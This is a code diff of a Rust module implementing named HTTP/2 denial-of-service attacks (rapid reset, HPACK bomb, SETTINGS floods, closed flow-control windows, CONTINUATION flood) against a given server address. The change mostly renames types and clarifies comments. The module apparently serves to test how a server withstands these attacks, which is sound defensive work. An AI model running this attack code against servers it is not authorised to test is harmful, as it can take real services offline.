@@ -1,79 +1,80 @@
-//! The ways that are known to bring servers of HTTP/2 down, each as one connection that goes on until it is stopped.
+//! Known denial-of-service attacks on HTTP/2 servers. Each uses one connection and continues until the server stops it.
 //!
-//! Names as in the reports of the Netflix study of 2019 (CVE-2019-9511 and on), of rapid reset (CVE-2023-44487), of the CONTINUATION
-//! flood (VU#421644) and of MadeYouReset (CVE-2025-8671).
+//! Names are those of the Netflix report of 2019 (CVE-2019-9511 and following), of rapid reset (CVE-2023-44487), of the
+//! CONTINUATION flood (VU#421644) and of MadeYouReset (CVE-2025-8671).
 
 use std::io;
 use std::net::SocketAddr;
 use std::sync::mpsc;
 use std::time::{Duration, Instant};
 
-use super::{Frame, Wire, flag, get, kind, literal};
+use super::{ReceivedFrame, Wire, flag, get, kind, literal};
 
-/// Whom it meets.
+/// The server under attack.
 #[derive(Debug, Clone, Copy)]
-pub struct Target {
-    /// The server.
+pub struct AttackTarget {
+    /// The server's address.
     pub address: SocketAddr,
-    /// A path with a short answer.
+    /// A path with a short response.
     pub short: &'static str,
-    /// A path with an answer of megabytes.
+    /// A path with a response of megabytes.
     pub long: &'static str,
 }
 
-/// How a connection ended.
+/// The end of an attack's connection.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub enum Outcome {
+pub enum AttackOutcome {
     /// GOAWAY with this code (RFC 9113 §7).
     GoAway(u32),
-    /// Closed without a word.
+    /// Closed without a GOAWAY.
     Closed,
-    /// The server read no more.
+    /// The server stopped reading.
     Stopped,
-    /// It took all of it and lives.
+    /// The server accepted all frames until the time was over.
     Absorbed,
 }
 
-impl Outcome {
+impl AttackOutcome {
     /// GOAWAY with ENHANCE_YOUR_CALM.
     pub const CALM: Self = Self::GoAway(0xb);
 }
 
-/// One of them.
+/// An attack.
 #[derive(Clone, Copy)]
 pub struct Attack {
-    /// What it is called.
+    /// The attack's name in reports.
     pub name: &'static str,
-    /// What it says of its windows and table.
+    /// The client's SETTINGS.
     settings: &'static [(u16, u32)],
-    /// Whether it reads what the server sends; whoever does not may miss a GOAWAY.
+    /// Whether the client reads. One that does not read may miss a GOAWAY.
     pub reads: bool,
-    /// Before the first round.
-    begin: fn(&mut Wire, Target),
-    /// One round of it: a batch of frames, given how many there were before.
-    round: fn(&mut Wire, Target, u32),
+    /// Sends the frames before the first round.
+    begin: fn(&mut Wire, AttackTarget),
+    /// Sends the frames of a round, given its number.
+    round: fn(&mut Wire, AttackTarget, u32),
 }
 
-/// Rounds that go into one write.
+/// Rounds per write.
 const BATCH: u32 = 16;
-/// How long a server may refuse to read before that is its answer.
+/// Time after which a server that reads nothing counts as stopped.
 const STOPPED: Duration = Duration::from_millis(500);
 
 const INITIAL_WINDOW_SIZE: u16 = 4;
 const CANCEL: [u8; 4] = 8u32.to_be_bytes();
 
-fn nothing(_: &mut Wire, _: Target) {}
+fn nothing(_: &mut Wire, _: AttackTarget) {}
 
-/// The stream of a round.
+/// Returns the stream identifier of a round.
 fn odd(round: u32) -> u32 {
     2 * round + 1
 }
 
-const fn plain(name: &'static str, round: fn(&mut Wire, Target, u32)) -> Attack {
+/// An attack without settings or preparation, whose client reads.
+const fn plain(name: &'static str, round: fn(&mut Wire, AttackTarget, u32)) -> Attack {
     Attack { name, settings: &[], reads: true, begin: nothing, round }
 }
 
-/// All of them.
+/// All attacks.
 pub const ATTACKS: &[Attack] = &[
     plain("rapid reset", |wire, target, round| {
         wire.put_get(odd(round), target.long);
@@ -112,6 +113,7 @@ pub const ATTACKS: &[Attack] = &[
         ..plain("SETTINGS without reading", |wire, _, _| wire.put(kind::SETTINGS, flag::NONE, 0, &[]))
     },
     plain("SETTINGS of thousands", |wire, _, round| {
+        // 2730 settings of 6 bytes just fit the default maximum frame size of 16 384 bytes.
         let entry = [0, INITIAL_WINDOW_SIZE as u8, 0, 0, 0, round as u8];
         wire.put(kind::SETTINGS, flag::NONE, 0, &entry.repeat(2730));
     }),
@@ -132,19 +134,19 @@ pub const ATTACKS: &[Attack] = &[
         })
     },
     Attack {
-        // One entry of nearly the whole table (RFC 7541 §4.2), in the first request.
+        // An entry that nearly fills the dynamic table (RFC 7541 §4.2), sent with the first request.
         begin: |wire, target| {
             let mut block = get(target.short);
             let mut entry = Vec::new();
             literal(&mut entry, b"x-bomb", &[b'x'; 3900]);
-            // With indexing.
+            // Literal with incremental indexing.
             entry[0] = 0x40;
             block.extend(entry);
             wire.put(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, 1, &block);
         },
         ..plain("HPACK bomb", |wire, target, round| {
             let mut block = get(target.short);
-            // The newest entry of the dynamic table.
+            // The index of the newest entry in the dynamic table.
             block.extend([0x80 | 62; 12_000]);
             wire.put(kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, odd(round + 1), &block);
         })
@@ -157,7 +159,7 @@ pub const ATTACKS: &[Attack] = &[
     Attack {
         settings: &[(INITIAL_WINDOW_SIZE, 0)],
         ..plain("large answers, closed windows", |wire, target, round| {
-            // As many as may be open at once; then it waits.
+            // Opens as many streams as the server allows, then keeps the connection alive.
             if round < 128 {
                 wire.put_get(odd(round), target.long);
             } else {
@@ -169,7 +171,7 @@ pub const ATTACKS: &[Attack] = &[
     Attack {
         settings: &[(INITIAL_WINDOW_SIZE, 1)],
         begin: |wire, target| (0..100).for_each(|round| wire.put_get(odd(round), target.long)),
-        ..plain("windows of one octet", |wire, _, round| {
+        ..plain("windows of one byte", |wire, _, round| {
             wire.put(kind::WINDOW_UPDATE, flag::NONE, odd(round % 100), &1u32.to_be_bytes());
         })
     },
@@ -180,7 +182,7 @@ pub const ATTACKS: &[Attack] = &[
         })
     },
     plain("heads that never end", |wire, target, round| {
-        // Held open: nothing may follow on this connection but what belongs to the head.
+        // The head stays open, so no frame other than its CONTINUATION may follow on this connection.
         if round == 0 {
             wire.put(kind::HEADERS, flag::NONE, 1, &get(target.short));
         }
@@ -193,15 +195,15 @@ pub const ATTACKS: &[Attack] = &[
 ];
 
 impl Attack {
-    /// Keeps at it on one connection, until it is stopped or the time is over.
+    /// Attacks on one connection until the server stops it or `most` has passed.
     ///
     /// # Errors
-    /// When not even a connection comes about.
-    pub fn run(&self, target: Target, most: Duration) -> io::Result<Outcome> {
+    /// When the connection cannot be established.
+    pub fn run(&self, target: AttackTarget, most: Duration) -> io::Result<AttackOutcome> {
         let until = Instant::now() + most;
         let mut wire = Wire::connect(target.address, self.settings)?;
         wire.patience(STOPPED)?;
-        // What comes is read beside the writing, so that neither waits for the other.
+        // Read on a second thread, so that a full socket buffer in one direction does not block the other.
         let (sender, ended) = mpsc::channel();
         let mut reader = wire.twin()?;
         let reads = self.reads;
@@ -214,6 +216,7 @@ impl Attack {
         });
         (self.begin)(&mut wire, target);
         let mut round = 0;
+        // Set once a write fails.
         let mut refused = None;
         while Instant::now() < until && refused.is_none() {
             (0..BATCH).for_each(|step| (self.round)(&mut wire, target, round + step));
@@ -223,35 +226,39 @@ impl Attack {
                 break;
             }
         }
+        // Lets a reader that was held back start, to collect a GOAWAY that may be waiting.
         drop(go);
+        // A write that timed out means that the server no longer reads.
         let stopped =
             refused.is_some_and(|error| matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut));
+        // A full socket buffer is the server's answer; this client does not wait for a GOAWAY.
         if stopped && !self.reads {
-            return Ok(Outcome::Stopped);
+            return Ok(AttackOutcome::Stopped);
         }
         Ok(match ended.recv().unwrap_or(None) {
-            Some(Outcome::Absorbed) if stopped => Outcome::Stopped,
+            Some(AttackOutcome::Absorbed) if stopped => AttackOutcome::Stopped,
             Some(outcome) => outcome,
-            None => Outcome::Closed,
+            None => AttackOutcome::Closed,
         })
     }
 }
 
-/// How the server's side ends; [`Outcome::Absorbed`] when it does not until then.
-fn last_word(wire: &mut Wire, until: Instant) -> Option<Outcome> {
+/// Reads until the connection ends and returns how it ended; [`AttackOutcome::Absorbed`] when it is still open at
+/// `until`. `None` means closed without a GOAWAY.
+fn last_word(wire: &mut Wire, until: Instant) -> Option<AttackOutcome> {
     loop {
         match wire.receive() {
-            Ok(Some(Frame { kind: kind::GOAWAY, payload, .. })) => {
+            Ok(Some(ReceivedFrame { kind: kind::GOAWAY, payload, .. })) => {
                 let code = payload.get(4..8)?.try_into().ok()?;
-                return Some(Outcome::GoAway(u32::from_be_bytes(code)));
+                return Some(AttackOutcome::GoAway(u32::from_be_bytes(code)));
             }
             Ok(Some(_)) if Instant::now() < until => {}
             Err(error) if matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut) => {
                 if Instant::now() >= until {
-                    return Some(Outcome::Absorbed);
+                    return Some(AttackOutcome::Absorbed);
                 }
             }
-            Ok(Some(_)) => return Some(Outcome::Absorbed),
+            Ok(Some(_)) => return Some(AttackOutcome::Absorbed),
             Ok(None) | Err(_) => return None,
         }
     }
